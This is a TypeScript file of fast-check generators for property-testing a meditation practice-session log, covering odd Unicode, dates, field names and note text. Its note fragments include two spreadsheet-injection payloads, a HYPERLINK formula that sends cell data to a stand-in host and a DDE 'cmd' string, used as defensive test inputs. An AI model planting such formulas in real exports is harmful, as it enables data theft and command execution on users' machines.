import fc from 'fast-check';
import type { PracticeSession } from '../../src/practice/session.js';

/** Pieces of which notes are made that break spreadsheets. */
const PIECES = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\r\n',
    '＝',
    "'",
    "''",
    '"',
    '""',
    ';',
    ',',
    '\0',
    '\u0007',
    '\u001b',
    '\ufeff',
  ],
  ...[
    '\u2028',
    '\u0085',
    '\ufffd',
    '\ud83d',
    '\ude00',
    '😀',
    '👩‍👧',
    'é',
    'e\u0301',
    'æøå',
    ' ',
    '  ',
    '\u00a0',
    '12,5',
    '1.2',
    'sep=;',
  ],
  ...['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", '{"a":1}', 'Pusten var rolig', '2024-03-12', 'null'],
];

/** Any words that a person could type or paste, and many that nobody would. */
export const anyWords = fc.oneof(
  fc.array(fc.constantFrom(...PIECES), { maxLength: 6 }).map(pieces => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);

const anyTime = fc.oneof(
  fc
    .date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
    .map(date => date.toISOString()),
  fc.constantFrom('2024-03-12T18:05Z', '2024-03-12T18:05:00Z', '2024-03-12T18:05:00.123456Z'),
);

const anySeconds = fc.oneof(
  fc.integer({ min: 0, max: 7200 }),
  // JSON has no negative zero.
  fc.double({ min: 0, max: 1e7, noNaN: true }).map(seconds => seconds + 0),
);

const anyPhase = fc.constantFrom(0, 0.5, 2.25, 4, 7, 8, 1e-7, 600);

/** Names of fields of a later version, unlucky ones among them. */
const anyName = fc.oneof(
  fc.constantFrom('more', 'constructor', 'toString', 'prototype', 'weather', 'Day', 'ID', '1', '', ' ', 'in'),
  fc.string({ maxLength: 8 }).map(name => `x${name}`),
);

const anyLaterField = fc.jsonValue({ maxDepth: 3 }).map(value => JSON.parse(JSON.stringify(value)) as unknown);

const known = fc.record(
  {
    id: fc.oneof(
      fc.uuid(),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
      anyWords.filter(words => words.length > 0 && words.length < 80),
    ),
    v: fc.constant(1),
    practice: fc.constantFrom(
      'body-scan',
      'sitting',
      'movement',
      'breathing-space',
      'paced-breathing',
      'informal',
      'other',
    ),
    startUtc: anyTime,
    endUtc: anyTime,
    offsetMin: fc.integer({ min: -720, max: 840 }),
    tz: fc.constantFrom('Europe/Oslo', 'UTC', '-03', ''),
    day: fc.constantFrom('2024-02-29', '2024-03-31', '2024-10-27', '0000-01-01', '9999-12-31'),
    activeSeconds: anySeconds,
    plannedSeconds: anySeconds,
    source: fc.constantFrom('timer', 'manual', 'import'),
    outcome: fc.constantFrom('completed', 'ended-early', 'recovered'),
    pattern: fc.oneof(
      fc.record({ in: anyPhase, hold1: anyPhase, out: anyPhase, hold2: anyPhase }),
      fc.record({ in: anyPhase, hold1: anyPhase, out: anyPhase, hold2: anyPhase, sigh: fc.boolean() }),
    ),
    calmBefore: fc.constantFrom(1, 2, 3, 4, 5),
    calmAfter: fc.constantFrom(1, 2, 3, 4, 5),
    note: anyWords,
    createdAt: anyTime,
    updatedAt: anyTime,
    deletedAt: anyTime,
  },
  {
    requiredKeys: [
      'id',
      'v',
      'practice',
      'startUtc',
      'offsetMin',
      'day',
      'activeSeconds',
      'source',
      'outcome',
      'createdAt',
      'updatedAt',
    ],
  },
);

const later = fc.oneof(
  { weight: 3, arbitrary: fc.constant({}) },
  { weight: 1, arbitrary: fc.dictionary(anyName, anyLaterField, { maxKeys: 3, noNullPrototype: true }) },
);

/** Any session that the format allows, with fields that only a later version knows. */
export const anySession: fc.Arbitrary<PracticeSession> = fc
  .tuple(known, later)
  .map(([session, fields]) => ({ ...fields, ...session }) as unknown as PracticeSession);

/** Sessions with an id each. */
export const anySessions = fc.uniqueArray(anySession, { maxLength: 12, selector: ({ id }) => id });

/** So many sessions of every kind, with an id each. */
export function manySessions(count: number): readonly PracticeSession[] {
  const sessions = fc.sample(anySession, { numRuns: count, seed: 20240312 });
  return sessions.map((session, at) => ({ ...session, id: `${at}${session.id}` }));
}

/** Sessions as the files list them, found the slow way. */
export function listed(sessions: readonly PracticeSession[]): readonly PracticeSession[] {
  const keyed = sessions.map(session => [`${session.startUtc}\n${session.id}`, session] as const);
  return keyed.sort(([a], [b]) => (a < b ? -1 : 1)).map(([, session]) => session);
}
